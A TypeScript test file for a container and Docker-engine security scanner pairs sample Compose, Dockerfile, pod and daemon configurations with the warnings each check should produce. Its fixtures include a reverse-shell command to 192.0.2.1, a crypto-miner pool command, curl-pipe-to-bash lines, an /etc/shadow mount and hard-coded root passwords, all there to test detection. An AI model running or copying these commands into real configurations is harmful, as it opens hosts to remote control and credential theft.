import { describe, expect, it } from 'vitest';
import { dockerfile, sentences, service, type CheckCase } from '../../../../tests/support/check-sentences.ts';
import { writtenSecrets } from '../../../../tests/support/written-secrets.ts';
import { allChecks } from '../run-checks.ts';

function pod(spec: object, container: object = {}, kind = 'Pod'): readonly [string, string] {
  const whole = { ...spec, containers: [{ name: 'app', image: 'app:1', ...container }] };
  const object = { apiVersion: 'v1', kind, metadata: { name: 'p' }, spec: whole };
  return ['pod.json', JSON.stringify(object, undefined, 1)];
}

function inspected(config: object, host: object): readonly [string, string] {
  return [
    'inspect.json',
    JSON.stringify([{ Name: '/c', State: { Status: 'running' }, Config: config, HostConfig: host }]),
  ];
}

function podmanContainer(left: readonly string[]): readonly [string, string] {
  const container = {
    Name: 'c',
    OCIRuntime: 'crun',
    BoundingCaps: left,
    Config: {},
    HostConfig: { CapDrop: ['CAP_KILL'] },
  };
  return ['podman.json', JSON.stringify([container])];
}

function info(more: object): readonly [string, string] {
  return ['info.json', JSON.stringify({ ServerVersion: '28.0.0', SecurityOptions: [], ...more })];
}

/** One line for each check and input: what it says, or nothing. */
const cases: readonly CheckCase[] = [
  ...writtenSecrets,
  ['privileged', service(['privileged: true']), ['service web is privileged']],
  ['privileged', service(['privileged: false']), []],
  ['privileged', inspected({}, { Privileged: true }), ['container c is privileged']],
  ['privileged', pod({}, { securityContext: { privileged: true } }), ['container Pod/p/app is privileged']],
  [
    'dangerous-capabilities',
    service(['cap_add: [net_admin]']),
    ['service web adds the capability NET_ADMIN, which lets it change addresses, routes and firewall rules'],
  ],
  ['dangerous-capabilities', service(['cap_add: [CAP_CHOWN]']), []],
  ['capabilities-kept', service(['cap_drop: [ALL]']), []],
  ['capabilities-kept', service(['cap_drop: [NET_RAW]']), ['service web does not drop all capabilities']],
  [
    'engine-socket',
    service(['volumes: ["/run/docker.sock:/s:ro"]']),
    ['service web mounts /run/docker.sock at /s (read-only, which does not help)'],
  ],
  [
    'engine-socket',
    service(['volumes: ["/run/user/1000/podman/podman.sock:/s"]']),
    ['service web mounts /run/user/1000/podman/podman.sock at /s'],
  ],
  [
    'git-volume',
    pod({ volumes: [{ name: 'a', gitRepo: { repository: 'https://git.example/a' } }] }),
    ['Pod/p has a volume that its node clones from https://git.example/a'],
  ],
  ['git-volume', pod({ volumes: [{ name: 'a', emptyDir: {} }] }), []],
  [
    'tiller',
    pod({}, { image: 'gcr.io/kubernetes-helm/tiller:v2.16.1' }),
    ['container Pod/p/app starts Tiller (gcr.io/kubernetes-helm/tiller:v2.16.1)'],
  ],
  ['tiller', pod({}, { image: 'registry.example/tiller-docs:1' }), []],
  ['ssh-service', pod({}, { ports: [{ containerPort: 22 }] }), ['Pod/p opens port 22']],
  ['ssh-service', pod({}, { ports: [{ containerPort: 22, protocol: 'UDP' }, { containerPort: 2222 }] }), []],
  [
    'miner',
    service(['command: ["-o", "stratum+tcp://pool.example:3333", "--coin=monero"]']),
    ['service web is started so: protocol of mining pools, coin to be mined'],
  ],
  ['miner', service(['command: ["nginx"]']), []],
  [
    'backdoor-script',
    service(['command: ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"]']),
    ['service web is started so: opens a shell to the network'],
  ],
  ['backdoor-script', service(['command: ["sh", "-c", "bash -c \'exec app\' > /dev/null 2>&1"]']), []],
  ['sudo', dockerfile('RUN sudo -E apt-get update'), ['image of /Dockerfile runs apt-get with sudo']],
  ['sudo', dockerfile('RUN echo sudo'), []],
  [
    'unpinned-image',
    dockerfile('COPY --from=nginx:latest /a /a', 'RUN --mount=type=bind,from=alpine,target=/m cp /m/a /a'),
    [
      'image of /Dockerfile takes files from nginx:latest',
      'image of /Dockerfile takes files from alpine without a version',
    ],
  ],
  [
    'unpinned-image',
    dockerfile(
      'FROM base:1.2 AS Next',
      'COPY --from=0 /a /a',
      'FROM base:1.2',
      'COPY --from=next /a /a',
      'COPY --from=nginx:1.27 /a /a',
      'RUN --mount=type=cache,target=/var/cache true',
    ),
    [],
  ],
  ['capabilities-kept', podmanContainer([]), []],
  ['capabilities-kept', podmanContainer(['CAP_CHOWN']), ['container c does not drop all capabilities']],
  ['engine-socket', service(['volumes: ["data:/var/run/docker.sock"]']), []],
  [
    'host-path',
    service(['volumes: ["/etc/shadow:/x:ro"]']),
    [
      'service web mounts /etc/shadow of the host (read-only) at /x: accounts, password hashes and settings of the host',
    ],
  ],
  [
    'host-path',
    service(['volumes: ["/run/dbus/system_bus_socket:/b", "/var/run/attestations:/a"]']),
    [
      'service web mounts /run/dbus/system_bus_socket of the host (to write) at /b: sockets and secrets of the host',
      'service web mounts /var/run/attestations of the host (to write) at /a: what a service of the host keeps while it runs',
    ],
  ],
  ['host-path', service(['volumes: ["/etc/localtime:/etc/localtime:ro", "./data:/data", "cache:/cache"]']), []],
  [
    'host-path-volume',
    pod({ volumes: [{ name: 'v', hostPath: { path: '/srv' } }] }),
    ['Pod/p has a volume on /srv of its node'],
  ],
  ['host-path-volume', pod({ volumes: [{ name: 'v', emptyDir: {} }] }), []],
  ['host-network', service(['network_mode: host']), ['service web shares the network of the host']],
  ['host-network', service(['network_mode: bridge']), []],
  ['host-pid', pod({ hostPID: true }), ['container Pod/p/app shares the processes of the host']],
  ['host-pid', service(['pid: "service:db"']), []],
  ['host-ipc', service(['ipc: host']), ['service web shares the shared memory of the host']],
  ['host-ipc', service(['ipc: shareable']), []],
  ['host-uts', service(['uts: host']), ['service web shares the host name of the host']],
  ['host-uts', service([]), []],
  ['host-user-namespace', service(['userns_mode: host']), ['service web shares the users of the host']],
  ['host-user-namespace', service([]), []],
  ['seccomp-off', service(['security_opt: ["seccomp:unconfined"]']), ['service web has seccomp switched off']],
  ['seccomp-off', service(['security_opt: ["seccomp=profile.json"]']), []],
  ['seccomp-not-set', pod({}), ['container Pod/p/app asks for no seccomp profile']],
  ['seccomp-not-set', pod({ securityContext: { seccompProfile: { type: 'RuntimeDefault' } } }), []],
  ['apparmor-off', service(['security_opt: ["apparmor=unconfined"]']), ['service web has AppArmor switched off']],
  ['apparmor-off', service(['security_opt: ["apparmor=mine"]']), []],
  ['selinux-off', service(['security_opt: ["label=disable"]']), ['service web has SELinux switched off']],
  ['selinux-off', service(['privileged: true', 'security_opt: ["label=disable"]']), []],
  ['privilege-escalation', service(['security_opt: ["no-new-privileges:true"]']), []],
  ['privilege-escalation', service([]), ['service web may gain rights through set-id programs']],
  ['writable-root', service(['read_only: true']), []],
  ['writable-root', service([]), ['service web can write to its root file system']],
  ['no-memory-limit', service(['mem_limit: 64m']), []],
  ['no-memory-limit', service([]), ['service web has no limit for memory']],
  ['no-cpu-limit', service(['deploy: { resources: { limits: { cpus: "0.5" } } }']), []],
  ['no-cpu-limit', service([]), ['service web has no limit for processor time']],
  ['no-pids-limit', service(['pids_limit: 100']), []],
  ['no-pids-limit', service([]), ['service web has no limit for processes']],
  ['no-resource-requests', pod({}, { resources: { requests: { cpu: '1', memory: '1Gi' } } }), []],
  [
    'no-resource-requests',
    pod({}, { resources: { requests: { cpu: '1' } } }),
    ['container Pod/p/app names no request for memory'],
  ],
  ['restart-always', service(['restart: always']), ['service web is started again without end (always)']],
  ['restart-always', service(['restart: "on-failure:5"']), []],
  ['host-devices', service(['devices: ["/dev/sda:/dev/x:rwm"]']), ['service web has the device /dev/sda of the host']],
  ['host-devices', service([]), []],
  [
    'shared-mount',
    service(['volumes: ["/srv:/srv:rshared"]']),
    ['service web shares its mounts at /srv with the host'],
  ],
  ['shared-mount', service(['volumes: ["/srv:/srv:rslave"]']), []],
  [
    'published-port',
    service(['ports: ["8080:80", "127.0.0.1:9:9"]']),
    ['service web publishes port 80/tcp as 8080 on every interface'],
  ],
  ['published-port', service(['ports: [{ target: 80, published: 8080, host_ip: 127.0.0.1 }]']), []],
  [
    'host-port',
    pod({}, { ports: [{ containerPort: 80, hostPort: 8080 }] }),
    ['container Pod/p/app takes port 8080 of its node'],
  ],
  ['host-port', pod({}, { ports: [{ containerPort: 80 }] }), []],
  ['default-bridge', inspected({}, { NetworkMode: 'default' }), ['container c is on the default bridge']],
  ['default-bridge', inspected({}, { NetworkMode: 'own' }), []],
  ['unmasked-proc', pod({}, { securityContext: { procMount: 'Unmasked' } }), ['container Pod/p/app sees all of /proc']],
  ['unmasked-proc', service([]), []],
  ['cgroup-parent', service(['cgroup_parent: /other']), ['service web is in the control group /other']],
  ['cgroup-parent', service([]), []],
  ['unsafe-sysctls', service(['sysctls: ["kernel.core_pattern=x"]']), ['service web sets kernel.core_pattern']],
  ['unsafe-sysctls', service(['sysctls: { net.core.somaxconn: 1024 }']), []],
  // What a here-document holds is no name of a file.
  ['secret-file', dockerfile('COPY <<EOF /etc/x', 'a .env', 'EOF'), []],
  ['add-instruction', dockerfile('ADD <<EOF /etc/x', 'a b', 'EOF'), []],
  [
    'secret-in-environment',
    service(['environment: { DB_PASSWORD: s3cret-word }']),
    ['service web has DB_PASSWORD, a secret by its name'],
  ],
  [
    'secret-in-environment',
    service(['environment: ["DB_PASSWORD_FILE=/run/secrets/db", "TOKEN=${TOKEN}", "PASSWORD_MIN_LENGTH=12"]']),
    [],
  ],
  [
    'secret-in-environment',
    dockerfile('ARG NPM_TOKEN', 'ENV A=1 API_KEY="k9Wq-77"'),
    ['image of /Dockerfile sets by ENV API_KEY, a secret by its name'],
  ],
  ['root-user', inspected({ User: '' }, {}), ['container c runs as root']],
  ['root-user', inspected({ User: '1000' }, {}), []],
  ['root-user', pod({ securityContext: { runAsNonRoot: true } }), []],
  ['root-user', dockerfile('USER root:root'), ['image of /Dockerfile ends with USER root:root']],
  ['root-user', dockerfile('USER root', 'USER 1000'), []],
  ['root-user', ['Dockerfile', 'FROM a:1 AS low\nUSER 9\nFROM low\n'], []],
  [
    'low-user-id',
    pod({ securityContext: { runAsUser: 20000, runAsGroup: 100 } }),
    ['container Pod/p/app asks for no group over 10000'],
  ],
  ['low-user-id', pod({ securityContext: { runAsUser: 20000, runAsGroup: 20000 } }), []],
  ['root-group', pod({}), ['container Pod/p/app may be in the group of root']],
  ['root-group', pod({}, { securityContext: { runAsGroup: 5 } }), []],
  ['no-healthcheck', service(['healthcheck: { disable: true }']), ['service web has no health check']],
  ['no-healthcheck', dockerfile('HEALTHCHECK CMD true'), []],
  ['unpinned-image', service([]), []],
  [
    'unpinned-image',
    ['Dockerfile', 'ARG TAG=latest\nFROM reg.example:5000/a:$TAG AS one\nFROM scratch\nFROM one\n'],
    ['image of /Dockerfile starts from reg.example:5000/a:latest'],
  ],
  [
    'unpinned-image',
    ['Dockerfile', 'FROM reg.example:5000/a\n'],
    ['image of /Dockerfile starts from reg.example:5000/a without a version'],
  ],
  [
    'ssh-service',
    dockerfile('RUN apt-get install -y openssh-server', 'EXPOSE 2222'),
    ['image of /Dockerfile installs an SSH server'],
  ],
  ['ssh-service', dockerfile('RUN apt-get install -y openssh-client', 'EXPOSE 8022'), []],
  ['ssh-service', service(['ports: ["2222:22"]']), ['service web publishes port 22 as 2222']],
  ['several-services', dockerfile('RUN apk add nginx redis'), ['image of /Dockerfile holds Redis, nginx']],
  // What a stage before it installs is not in the image.
  [
    'several-services',
    ['Dockerfile', 'FROM a:1 AS build\nRUN apk add nginx redis sudo\nFROM b:1\nCOPY --from=build /x /x\n'],
    [],
  ],
  ['several-services', dockerfile('RUN apk add nginx', 'CMD ["nginx"]'), []],
  ['add-instruction', dockerfile('ADD --checksum=sha256:00 https://a.example/x /x', 'ADD rootfs.tar.gz /'), []],
  [
    'add-instruction',
    dockerfile('ADD https://a.example/x /x'),
    ['image of /Dockerfile adds https://a.example/x without a checksum'],
  ],
  ['package-update-alone', dockerfile('RUN apt-get update && apt-get install -y a'), []],
  ['package-update-alone', dockerfile('RUN apt-get update'), ['image of /Dockerfile runs apt-get update alone']],
  ['package-leftovers', dockerfile('RUN apk add --no-cache a'), []],
  [
    'package-leftovers',
    dockerfile('RUN apt-get -qq install a'),
    ['image of /Dockerfile installs what apt-get recommends besides'],
  ],
  ['run-cd', dockerfile('RUN cd /app && make'), ['image of /Dockerfile changes to /app inside of RUN']],
  ['run-cd', dockerfile('RUN cd app && make'), []],
  ['maintainer', dockerfile('MAINTAINER a'), ['image of /Dockerfile uses MAINTAINER']],
  ['maintainer', dockerfile('LABEL maintainer=a'), []],
  [
    'known-password',
    dockerfile("RUN echo 'root:toor' | chpasswd"),
    ['image of /Dockerfile sets the password of root to one that is written there'],
  ],
  ['known-password', dockerfile('RUN useradd -p $(head -c32 /dev/urandom | base64) app'), []],
  ['known-password', dockerfile('RUN useradd --password "$(openssl rand -base64 12)" app'), []],
  ['known-password', dockerfile("RUN useradd -p '!' app && usermod -p '*' www"), []],
  ['known-password', dockerfile('RUN useradd -p "$PASSWORD" app', 'RUN echo "$PASSWORD" | passwd --stdin app'), []],
  [
    'known-password',
    dockerfile('RUN useradd -p $(openssl passwd -1 toor) app'),
    ['image of /Dockerfile makes an account with a password that is written there'],
  ],
  ['known-password', dockerfile('RUN passwd -d root'), ['image of /Dockerfile takes the password of root away']],
  ['known-password', dockerfile('RUN useradd -m app && passwd -l app'), []],
  [
    'remote-script',
    dockerfile('RUN curl -fsSL https://a.example/i.sh | sudo bash -s'),
    ['image of /Dockerfile runs in bash what it loads from the network'],
  ],
  [
    'remote-script',
    dockerfile('RUN bash -c "$(curl -fsSL https://a.example/i.sh)"'),
    ['image of /Dockerfile runs in bash what it loads from the network'],
  ],
  ['remote-script', dockerfile('RUN curl -o i.sh https://a.example/i.sh && sha256sum -c i.sha && sh i.sh'), []],
  [
    'unchecked-download',
    dockerfile('RUN curl -kfsSL https://a.example/x'),
    ['image of /Dockerfile runs curl with -kfsSL'],
  ],
  ['unchecked-download', dockerfile('RUN curl -fsSL https://a.example/x'), []],
  ['wide-permissions', dockerfile('RUN chmod -R 777 /app'), ['image of /Dockerfile lets everybody write: chmod 777']],
  ['wide-permissions', dockerfile('RUN chmod u+s /app/x'), ['image of /Dockerfile sets a set-id bit: chmod u+s']],
  ['wide-permissions', dockerfile('RUN chmod 755 /app && chmod u+w,go-w /x && chmod u-s /y'), []],
  [
    'wide-permissions',
    dockerfile('COPY --chown=app --chmod=777 x /x', 'ADD --chmod=4755 y /y'),
    [
      'image of /Dockerfile lets everybody write: COPY --chmod=777',
      'image of /Dockerfile sets a set-id bit: ADD --chmod=4755',
    ],
  ],
  ['wide-permissions', dockerfile('COPY --chmod=755 x /x'), []],
  ['sudo', dockerfile('RUN apk add sudo'), ['image of /Dockerfile installs sudo']],
  ['sudo', dockerfile('RUN sudo true'), ['image of /Dockerfile runs true with sudo']],
  [
    'secret-file',
    dockerfile('COPY id_rsa id_rsa.pub /root/.ssh/'),
    ['image of /Dockerfile copies id_rsa, a private key of SSH'],
  ],
  [
    'secret-file',
    dockerfile('COPY credentials credentials'),
    ['image of /Dockerfile copies credentials, by its name credentials, or code that handles them'],
  ],
  [
    'secret-file',
    dockerfile('COPY credentials /home/app/.aws/credentials'),
    ['image of /Dockerfile copies credentials, credentials'],
  ],
  ['secret-file', dockerfile('COPY --from=0 /.env /x', 'COPY .env.example /app/'), []],
  ['pod-security', pod({ hostNetwork: true }), ["Pod/p breaks the level baseline: the host's namespaces"]],
  [
    'pod-security',
    pod(
      { securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } } },
      { securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } } },
    ),
    [],
  ],
  ['service-account-token', pod({ serviceAccountName: 'a' }), ['Pod/p mounts the token of the account a']],
  ['service-account-token', pod({ serviceAccountName: 'a', automountServiceAccountToken: false }), []],
  ['engine-inter-container', ['daemon.json', '{"icc": false}'], []],
  [
    'engine-inter-container',
    ['daemon.json', '{"live-restore": true}'],
    ['the engine lets containers on the default bridge talk to one another'],
  ],
  ['engine-live-restore', ['daemon.json', '{"live-restore": true}'], []],
  ['engine-live-restore', ['daemon.json', '{"icc": false}'], ['the engine stops all containers when it is restarted']],
  [
    'engine-experimental',
    ['daemon.json', '{"icc": false, "experimental": true}'],
    ['the engine has experimental features switched on'],
  ],
  ['engine-experimental', ['daemon.json', '{"icc": false}'], []],
  ['engine-userland-proxy', ['daemon.json', '{"userland-proxy": false}'], []],
  ['engine-userland-proxy', ['daemon.json', '{"icc": false}'], ['the engine forwards ports by docker-proxy']],
  ['engine-root-users', ['daemon.json', '{"userns-remap": "default"}'], []],
  [
    'engine-root-users',
    ['daemon.json', '{"icc": false}'],
    ['the engine does not map users: root inside is root outside'],
  ],
  ['engine-new-privileges', ['daemon.json', '{"icc": false, "no-new-privileges": true}'], []],
  [
    'engine-new-privileges',
    ['daemon.json', '{"icc": false}'],
    ['the engine lets processes gain rights unless a container forbids it'],
  ],
  [
    'engine-no-firewall-rules',
    ['daemon.json', '{"iptables": false}'],
    ['the engine writes no firewall rules (iptables: false)'],
  ],
  ['engine-no-firewall-rules', ['daemon.json', '{"icc": false}'], []],
  [
    'engine-insecure-registry',
    ['daemon.json', '{"insecure-registries": ["127.0.0.0/8", "r.example:5000"]}'],
    ['the engine believes the registry r.example:5000 without a certificate'],
  ],
  ['engine-insecure-registry', ['daemon.json', '{"icc": false}'], []],
  ['engine-no-authorization', ['daemon.json', '{"authorization-plugins": ["opa"]}'], []],
  ['engine-no-authorization', ['daemon.json', '{"icc": false}'], ['the engine has no authorization plug-in']],
  ['engine-local-logs', ['daemon.json', '{"log-driver": "syslog"}'], []],
  ['engine-local-logs', ['daemon.json', '{"icc": false}'], ['the engine keeps logs in files (json-file)']],
  ['engine-swarm', info({ Swarm: { LocalNodeState: 'active' } }), ['the engine is an active node of a swarm']],
  ['engine-swarm', info({ Swarm: { LocalNodeState: 'inactive' } }), []],
  ['engine-storage-driver', info({ Driver: 'aufs' }), ['the engine stores images with aufs']],
  ['engine-storage-driver', ['daemon.json', '{"storage-driver": "overlay2"}'], []],
  ['privileged-port', service(['ports: ["22:22", "8080:80"]']), ['service web is published on port 22 of the host']],
  ['privileged-port', service(['ports: ["127.0.0.1:80:80", "8080:80"]']), []],
  ['engine-log-level', ['daemon.json', '{"icc": false, "log-level": "debug"}'], ['the engine logs at the level debug']],
  ['engine-log-level', ['daemon.json', '{"icc": false, "log-level": "info"}'], []],
  [
    'engine-seccomp-off',
    ['daemon.json', '{"icc": false, "seccomp-profile": "unconfined"}'],
    ['the engine runs containers without seccomp'],
  ],
  ['engine-seccomp-off', ['daemon.json', '{"icc": false}'], []],
  [
    'engine-group',
    ['group', 'root:x:0:\ndocker:x:998:root,eve\nusers:x:100:mallory\n'],
    ['the engine lets eve use its socket (group docker), which is as good as root'],
  ],
  ['engine-group', ['group', 'root:x:0:\ndocker:x:998:\n'], []],
  [
    'engine-api-open',
    ['docker.service', '[Service]\nExecStart=/usr/bin/dockerd -H fd:// \\\n  -H tcp://0.0.0.0:2375\n'],
    ['the engine listens on every address, port 2375, without asking for a certificate'],
  ],
  [
    'engine-api-open',
    ['docker.service', '[Service]\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2376 --tlsverify --tlscacert=ca.pem\n'],
    [],
  ],
  [
    'no-sandbox-runtime',
    ['daemon.json', '{"runtimes": {"custom": {"path": "/usr/bin/crun"}}, "icc": false}'],
    ['the engine knows no runtime with a kernel of its own (custom)'],
  ],
  ['no-sandbox-runtime', ['daemon.json', '{"runtimes": {"runsc": {"path": "/usr/bin/runsc"}}, "icc": false}'], []],
  [
    'privileged',
    inspected({}, { Privileged: true, Runtime: 'io.containerd.kata.v2' }),
    ['container c is privileged, behind Kata Containers'],
  ],
  [
    'engine-api-open',
    [
      'ps.txt',
      'UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 10:00 ? 00:00:01 /usr/bin/dockerd -H tcp://10.0.0.1:2375 --icc=false\n',
    ],
    ['the engine listens on 10.0.0.1, port 2375, without asking for a certificate'],
  ],
  [
    'engine-outdated',
    ['version.json', '{"Server": {"Version": "27.1.0", "Components": [{"Name": "runc", "Version": "1.1.11"}]}}'],
    [
      'the engine is version 27.1.0, in which authorization plug-ins can be gone around (CVE-2024-41110, fixed in 27.1.1)',
      'the engine is version 27.1.0, which its makers stopped mending on 2025-05-03',
      'the engine runs runc 1.1.11, in which a container can get at the file system of the host through a descriptor left open (CVE-2024-21626, fixed in 1.1.12)',
      'the engine runs runc 1.1.11, in which masked paths can be exchanged for links, and /proc of the host be written to (CVE-2025-31133, fixed in 1.3.3)',
    ],
  ],
  [
    'engine-outdated',
    ['version.json', '{"Server": {"Version": "29.7.2", "Components": [{"Name": "runc", "Version": "1.3.3"}]}}'],
    [],
  ],
];

describe('every check', () => {
  it('of containers, builds and engines stands among the cases, with one that it speaks of and one that it does not', () => {
    const isAsked = (id: string, speaks: boolean): boolean =>
      cases.some(([one, , said]) => one === id && said.length > 0 === speaks);
    const methods = ['workload', 'build', 'engine', 'pod'];
    const missing = allChecks
      .filter((check) => methods.some((method) => method in check))
      .filter(({ id }) => !isAsked(id, true) || !isAsked(id, false));
    expect(missing.map(({ id }) => id)).toEqual([]);
  });

  it.each(cases)('%s of %j', (id, input, said) => {
    expect(sentences(id, input)).toEqual(said);
  });

  it('says why it matters, how to mend it, and who recommends it', () => {
    for (const { id, why, fix, vanishes, references, attack } of allChecks) {
      expect({ id, why: why.endsWith('.'), fix: fix === '', vanishes: vanishes === '' }).toEqual({
        id,
        why: true,
        fix: false,
        vanishes: false,
      });
      expect({ id, references: references.length > 0 }).toEqual({ id, references: true });
      expect(attack.filter((technique) => !/^T\d{4}(?:\.\d{3})?$/.test(technique))).toEqual([]);
    }
  });
});
